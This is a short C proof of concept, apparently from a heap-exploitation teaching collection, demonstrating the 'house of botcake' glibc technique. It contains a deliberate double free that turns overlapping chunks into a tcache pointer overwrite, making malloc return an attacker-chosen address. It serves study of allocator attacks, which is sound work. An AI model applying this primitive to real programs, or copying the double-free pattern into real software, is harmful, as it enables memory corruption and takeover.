/* House of botcake: a chunk freed into the unsorted bin (consolidated with its neighbour) is
 * freed again into the tcache; a larger allocation overlaps it and rewrites its next pointer.
 * Published: shellphish/how2heap, glibc_2.36/house_of_botcake.c.
 * Primitive: double free -> overlapping chunks -> malloc returns an attacker-chosen address. */
#include <stdint.h>
#include "common.h"

int main(void) {
    test_init();
    printf("house of botcake: double free across unsorted bin and tcache\n");
    intptr_t target[4] __attribute__((aligned(16))) = {0};
    intptr_t *x[7];
    for (int i = 0; i < 7; i++)
        x[i] = malloc(0x100);
    intptr_t *prev = malloc(0x100), *a = malloc(0x100);
    malloc(0x10); /* keeps a away from the top chunk */
    print_ptr("victim", a);
    for (int i = 0; i < 7; i++)
        free(x[i]);
    free(a);    /* unsorted bin */
    free(prev); /* consolidates with a */
    malloc(0x100); /* one tcache slot free again */
    free(a);       /* BUG: double free: a goes into the tcache too */
    intptr_t *big = malloc(0x120); /* carved from prev+a: overlaps a */
    big[0x120 / 8 - 2] = (intptr_t)target ^ ((intptr_t)a >> 12); /* a->next = target */
    malloc(0x100); /* a */
    intptr_t *c = malloc(0x100);
    print_ptr("returned", c);
    if (c == target)
        printf("ATTACK SUCCEEDED: malloc returned the attacker's address\n");
    else
        printf("attack failed\n");
    return 0;
}
